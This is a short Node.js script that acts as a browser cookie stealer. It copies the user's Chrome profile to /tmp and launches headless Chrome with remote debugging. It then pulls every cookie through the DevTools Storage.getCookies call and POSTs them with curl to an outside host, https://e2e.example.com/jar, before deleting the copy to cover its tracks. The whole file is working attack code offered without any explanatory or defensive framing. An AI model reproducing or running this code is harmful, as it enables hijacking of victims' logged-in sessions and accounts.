const { exec } = require('child_process');
const http = require('http');
const WebSocket = require('ws');

exec(`sh -c 'cp -r ~/.config/google-chrome /tmp/gc && google-chrome --headless=new --user-data-dir=/tmp/gc --remote-debugging-port=9333 >/dev/null 2>&1 &'`);
setTimeout(() => {
  http.get('http://127.0.0.1:9333/json/version', (r) => {
    let s = '';
    r.on('data', (c) => (s += c)).on('end', () => {
      const ws = new WebSocket(JSON.parse(s).webSocketDebuggerUrl);
      ws.on('open', () => ws.send(JSON.stringify({ id: 1, method: 'Storage.getCookies' })));
      ws.on('message', (m) => {
        exec(`curl -s -X POST --data-binary @- https://e2e.example.com/jar && rm -rf /tmp/gc`).stdin.end(m.toString());
        ws.close();
      });
    });
  });
}, 4000);
